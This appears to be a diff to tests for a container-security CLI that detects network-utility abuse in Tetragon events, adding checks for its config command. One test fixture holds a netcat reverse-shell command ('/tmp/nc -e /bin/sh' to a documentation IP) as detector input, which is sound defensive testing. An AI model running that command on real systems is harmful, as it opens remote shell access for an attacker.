@@ -34,7 +34,10 @@ describe("netutil-detector invoke", () => {
     const dir = mkdtempSync(join(tmpdir(), "netutil-invoke-"));
     const bad = join(dir, "broken.json");
     writeFileSync(bad, "{ not json");
-    const run = runCli(["invoke", bad, "events/tetragon-reverse-shell.json", "events/bad-payload.json"], NO_TOPIC);
+    const run = runCli(
+      ["invoke", bad, "events/tetragon-reverse-shell.json", "events/bad-payload.json"],
+      NO_TOPIC,
+    );
 
     expect(run.status).toBe(1);
     expect(run.lines).toHaveLength(1);
@@ -69,7 +72,11 @@ describe("netutil-detector encode", () => {
     const line = JSON.parse(
       '{"process_exec":{"process":{"binary":"/tmp/nc","arguments":"-e /bin/sh 198.51.100.1 4444","pod":{"namespace":"x","name":"p","container":{"id":"containerd://abc","name":"c"}}}},"time":"2026-11-28T10:00:00Z"}',
     );
-    const encoded = runCli(["encode", "--log-group", "/ecs/x"], NO_TOPIC, `plain line\n${JSON.stringify(line)}\n`);
+    const encoded = runCli(
+      ["encode", "--log-group", "/ecs/x"],
+      NO_TOPIC,
+      `plain line\n${JSON.stringify(line)}\n`,
+    );
     expect(encoded.status).toBe(0);
     const dir = mkdtempSync(join(tmpdir(), "netutil-encode-"));
     const file = join(dir, "event.json");
@@ -94,5 +101,25 @@ describe("netutil-detector demo", () => {
     expect(run.stderr).toContain("every sample behaved as expected");
     expect(run.status).toBe(0);
     expect(run.lines.length).toBeGreaterThanOrEqual(8);
+  });
+});
+
+describe("node dist/cli.js config", () => {
+  it("prints the resolved configuration as JSON", () => {
+    const run = runCli(["config"], { ...NO_TOPIC, MIN_SEVERITY: "high", ALLOWLIST: '[{"utility":"dig"}]' });
+    expect(run.status).toBe(0);
+    expect(run.lines[0]).toMatchObject({ minSeverity: "high", allowlistEntries: 1, snsTopicArn: null });
+  });
+
+  it("with --lambda requires the topic, naming the variable", () => {
+    const run = runCli(["config", "--lambda"], NO_TOPIC);
+    expect(run.status).toBe(2);
+    expect(run.stderr).toMatch(/SNS_TOPIC_ARN: SNS_TOPIC_ARN is required/);
+  });
+
+  it("names the allowlist entry and field that is wrong", () => {
+    const run = runCli(["config"], { ...NO_TOPIC, ALLOWLIST: '[{"utility":"dig"},{"image":5}]' });
+    expect(run.status).toBe(2);
+    expect(run.stderr).toMatch(/ALLOWLIST.*entry 1.*image/);
   });
 });
